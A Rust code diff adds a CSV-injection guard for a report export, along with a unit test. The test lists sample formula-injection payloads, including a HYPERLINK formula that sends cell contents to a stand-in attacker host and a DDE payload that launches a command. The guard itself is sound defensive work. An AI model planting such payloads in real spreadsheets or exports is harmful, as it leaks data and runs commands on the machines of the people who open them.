@@ -139,6 +139,39 @@ pub fn csv_record(r: &ReportRecord) -> [String; 11] {
         r.requested_at.to_rfc3339(),
         r.updated_at.to_rfc3339(),
         r.closed_at.map(|t| t.to_rfc3339()).unwrap_or_default(),
-        redact_contacts(&r.description),
+        spreadsheet_safe(redact_contacts(&r.description)),
     ]
+}
+
+/// Free text for a CSV cell that a spreadsheet will not run as a formula
+/// (OWASP's CSV injection advice): a cell starting with `=`, `+`, `-`,
+/// `@`, a tab or a carriage return gets a leading `'`.
+fn spreadsheet_safe(text: String) -> String {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{text}")
+    } else {
+        text
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn formulas_never_reach_a_spreadsheet() {
+        for formula in [
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+            "@SUM(1+9)*cmd|' /C calc'!A0",
+            "+1+1",
+            "-2+3",
+            "\t=1",
+        ] {
+            assert_eq!(spreadsheet_safe(formula.to_owned()), format!("'{formula}"));
+        }
+        assert_eq!(
+            spreadsheet_safe("حفرة كبيرة - عاجل".into()),
+            "حفرة كبيرة - عاجل"
+        );
+    }
 }
